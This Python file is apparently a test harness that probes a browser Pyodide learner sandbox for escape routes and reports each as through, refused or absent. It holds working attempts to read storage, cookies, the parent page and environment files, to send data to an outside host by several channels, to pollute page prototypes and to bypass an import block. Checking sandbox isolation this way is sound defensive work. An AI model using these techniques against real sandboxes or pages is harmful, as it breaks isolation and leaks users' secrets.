"""Ways out that begin in Python. Run twice: by bare Pyodide in a page, and as a learner's program in the sandbox."""

import json
import sys
import time
from urllib.parse import quote


def browser():
    """The thread's JavaScript, past whatever hides it."""
    sys.meta_path[:] = [one for one in sys.meta_path if 'Hidden' not in getattr(one, '__name__', '')]
    import js

    return js


def leak(name):
    return f'{ELSEWHERE}leak/{FRAME}/{quote(name)}'


def told(text):
    return text is not None and 'host' in str(text)


def ask(address):
    request = browser().XMLHttpRequest.new()
    request.open('GET', address, False)
    request.send()
    return request.status == 200


def by_run_js():
    from pyodide.code import run_js

    return run_js('1 + 1') == 2


def by_constructor():
    from pyodide.ffi import to_js

    make = to_js([1]).constructor.constructor
    return make('return 1 + 1')() == 2


def by_open_url():
    from pyodide.http import open_url

    return open_url(leak('pyodide.http')) is not None


def by_urllib():
    from urllib.request import urlopen

    return urlopen(leak('urllib'), timeout=2).status == 200


def by_socket():
    import socket

    host, port = ELSEWHERE.split('/')[2].split(':')
    with socket.create_connection((host, int(port)), timeout=1) as one:
        one.sendall(f'GET /leak/{FRAME}/socket HTTP/1.0\r\n\r\n'.encode())
        return one.recv(10) != b''


def by_thread():
    from pyodide.ffi import to_js

    js = browser()
    words = f"fetch('{leak('a thread from Python')}').then(() => 1)"
    script = js.Blob.new(to_js([words]))
    js.Worker.new(js.URL.createObjectURL(script))
    return False


def by_web_socket():
    browser().WebSocket.new(leak('js.WebSocket').replace('http', 'ws'))
    return False


def by_files():
    with open('/proc/self/environ') as one:
        return one.read() != ''


def by_message():
    browser().postMessage(f'leak/{FRAME}/{quote("a word to the page")}')
    return False


def by_channel():
    browser().BroadcastChannel.new('host').postMessage(f'leak/{FRAME}/js.BroadcastChannel')
    return False


def by_prototype():
    # The page says whether it is its own.
    browser().Object.prototype.polluted = True
    return False


def by_stopwatch():
    began = time.perf_counter()
    for _ in range(200):
        sum(range(20_000))
    return time.perf_counter() - began > 0.01


def by_clock():
    return abs(time.time() - NOW) < 86_400


WAYS = {
    'js.localStorage': lambda: told(browser().localStorage.getItem('secret')),
    'js.sessionStorage': lambda: told(browser().sessionStorage.getItem('secret')),
    'js.document.cookie': lambda: told(browser().document.cookie),
    'js.parent.document': lambda: told(browser().parent.document.title),
    'js.location': lambda: HERE[:-1] in browser().location.href,
    'js.XMLHttpRequest': lambda: ask(leak('js.XMLHttpRequest')),
    'js.XMLHttpRequest of the page': lambda: ask(HERE + 'secret.txt'),
    'js.window.open': lambda: browser().open(leak('js.window.open')) is not None,
    'js.navigator.sendBeacon': lambda: browser().navigator.sendBeacon(leak('js.navigator.sendBeacon'), 'x'),
    'js.WebSocket': by_web_socket,
    'js.RTCPeerConnection': lambda: browser().RTCPeerConnection.new().connectionState == 'new',
    'js.BroadcastChannel': by_channel,
    'js.navigator.clipboard': lambda: browser().navigator.clipboard is not None,
    'js.navigator.geolocation': lambda: browser().navigator.geolocation is not None,
    'a function of the page': lambda: told(browser().secretOf()),
    'a word to the page': by_message,
    'the prototypes of the page': by_prototype,
    'js.eval': lambda: browser().eval('1 + 1') == 2,
    'pyodide.code.run_js': by_run_js,
    'a constructor of a proxy': by_constructor,
    'pyodide.http': by_open_url,
    'urllib': by_urllib,
    'socket': by_socket,
    'a thread from Python': by_thread,
    'the files of the machine': by_files,
    'the time of day': by_clock,
    'how quick the machine is': by_stopwatch,
}


def tried(way):
    try:
        return 'through' if way() else 'refused'
    except (OSError, AttributeError):
        # WebAssembly has no sockets and no such files at all, and some engines no WebRTC.
        return 'absent' if FRAME == 'control' else 'refused'
    except BaseException:
        return 'refused'


REPORT = json.dumps({name: tried(way) for name, way in WAYS.items()})
print(REPORT)
